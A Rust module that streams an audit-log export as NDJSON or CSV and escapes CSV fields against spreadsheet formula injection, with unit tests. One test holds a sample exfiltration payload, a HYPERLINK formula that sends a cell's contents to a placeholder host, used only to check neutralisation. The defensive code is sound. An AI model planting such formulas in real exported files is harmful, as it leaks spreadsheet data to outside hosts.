//! Streaming export of the audit log as NDJSON (the stored canonical events, one per line) or CSV
//! (one column per event field). Rows stream from the database in chain order, oldest first, in
//! chunks, so an export of any size holds only a chunk in memory and has no row limit.

use futures::TryStreamExt;
use serde_json::Value;
use sqlx::Row;
use tokio::sync::mpsc;
use tokio_stream::wrappers::ReceiverStream;

use super::query::Filters;
use crate::error::{Error, Result};
use crate::store::Db;

const CHUNK_BYTES: usize = 64 * 1024;

/// Columns of the CSV export, in the API reference's field order, then the fields beyond it.
pub const CSV_COLUMNS: [&str; 27] = [
    "id",
    "ts",
    "event",
    "schema_version",
    "decision",
    "check",
    "reason",
    "tenant",
    "agent_id",
    "session_id",
    "tool",
    "arg_keys",
    "arg_values",
    "capability_token_id",
    "root_capability_token_id",
    "caveat_count",
    "pending_id",
    "decided_by",
    "intent_summary",
    "latency_ms",
    "remote_ip",
    "upstream_status",
    "requires_step_up",
    "elevation_id",
    "method",
    "rule",
    "error_code",
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Ndjson,
}

impl Format {
    pub fn parse(text: Option<&str>) -> Result<Self> {
        match text {
            Some("csv") => Ok(Format::Csv),
            Some("ndjson") => Ok(Format::Ndjson),
            Some(_) => Err(Error::bad_request("format must be csv or ndjson")),
            None => Err(Error::bad_request("format is required (csv or ndjson)")),
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            Format::Csv => "text/csv; charset=utf-8",
            Format::Ndjson => "application/x-ndjson",
        }
    }
}

pub type Chunk = std::result::Result<Vec<u8>, std::io::Error>;

/// Starts the export. A database failure mid-stream ends the stream with an error, so the
/// client sees a broken transfer rather than a silently short file.
pub fn stream(db: Db, filters: Filters, format: Format) -> ReceiverStream<Chunk> {
    let (tx, rx) = mpsc::channel::<Chunk>(4);
    tokio::spawn(async move {
        if let Err(err) = produce(&db, &filters, format, &tx).await {
            tracing::error!(error = %err, "audit export failed");
            let _ = tx
                .send(Err(std::io::Error::other("audit export failed")))
                .await;
        }
    });
    ReceiverStream::new(rx)
}

async fn produce(
    db: &Db,
    filters: &Filters,
    format: Format,
    tx: &mpsc::Sender<Chunk>,
) -> Result<()> {
    let (conditions, binds) = filters.sql();
    let sql = format!("SELECT body FROM audit_events WHERE {conditions} ORDER BY pos ASC");
    let mut query = sqlx::query(&sql);
    for value in &binds {
        query = query.bind(value);
    }
    let mut rows = query.fetch(db.pool());
    let mut chunk = Vec::with_capacity(CHUNK_BYTES * 2);
    if format == Format::Csv {
        chunk.extend_from_slice(CSV_COLUMNS.join(",").as_bytes());
        chunk.extend_from_slice(b"\r\n");
    }
    while let Some(row) = rows.try_next().await? {
        let body: String = row.try_get("body")?;
        match format {
            Format::Ndjson => {
                chunk.extend_from_slice(body.as_bytes());
                chunk.push(b'\n');
            }
            Format::Csv => csv_row(&body, &mut chunk)?,
        }
        if chunk.len() >= CHUNK_BYTES {
            let full = std::mem::replace(&mut chunk, Vec::with_capacity(CHUNK_BYTES * 2));
            if tx.send(Ok(full)).await.is_err() {
                return Ok(()); // The client went away.
            }
        }
    }
    if !chunk.is_empty() {
        let _ = tx.send(Ok(chunk)).await;
    }
    Ok(())
}

fn csv_row(body: &str, out: &mut Vec<u8>) -> Result<()> {
    let event: Value = serde_json::from_str(body)
        .map_err(|e| Error::Internal(format!("stored audit event is not JSON: {e}")))?;
    for (i, column) in CSV_COLUMNS.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        match event.get(column) {
            None | Some(Value::Null) => {}
            Some(Value::String(s)) => csv_field(s, out),
            Some(other) => csv_field(&other.to_string(), out),
        }
    }
    out.extend_from_slice(b"\r\n");
    Ok(())
}

/// RFC 4180: quote fields holding a comma, quote or line break; double inner quotes. Text a
/// spreadsheet would run as a formula (tool names and reasons come from agents) gets a leading `'`
/// (OWASP's CSV-injection rule); numbers, negative ones included, stay as they are. The NDJSON
/// export is the byte-exact one.
pub(crate) fn csv_field(text: &str, out: &mut Vec<u8>) {
    let formula =
        text.starts_with(['=', '+', '-', '@', '\t', '\r']) && text.parse::<f64>().is_err();
    let text: std::borrow::Cow<'_, str> = if formula {
        format!("'{text}").into()
    } else {
        text.into()
    };
    if text.contains([',', '"', '\n', '\r']) {
        out.push(b'"');
        out.extend_from_slice(text.replace('"', "\"\"").as_bytes());
        out.push(b'"');
    } else {
        out.extend_from_slice(text.as_bytes());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_fields_are_quoted_when_needed() {
        let mut out = Vec::new();
        csv_field("plain", &mut out);
        out.push(b'|');
        csv_field("a,\"b\"\nc", &mut out);
        assert_eq!(String::from_utf8(out).unwrap(), "plain|\"a,\"\"b\"\"\nc\"");
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
        let cell = |text: &str| {
            let mut out = Vec::new();
            csv_field(text, &mut out);
            String::from_utf8(out).unwrap()
        };
        assert_eq!(
            cell("=HYPERLINK(\"http://x/?\"&A1)"),
            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\""
        );
        assert_eq!(cell("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(cell("-2+3"), "'-2+3");
        assert_eq!(cell("-32012"), "-32012", "numbers stay numbers");
        assert_eq!(cell("0.412"), "0.412");
        assert_eq!(cell("read_invoice"), "read_invoice");
    }

    #[test]
    fn formats_parse() {
        assert_eq!(Format::parse(Some("csv")).unwrap(), Format::Csv);
        assert!(Format::parse(Some("xml")).is_err());
        assert!(Format::parse(None).is_err());
    }
}
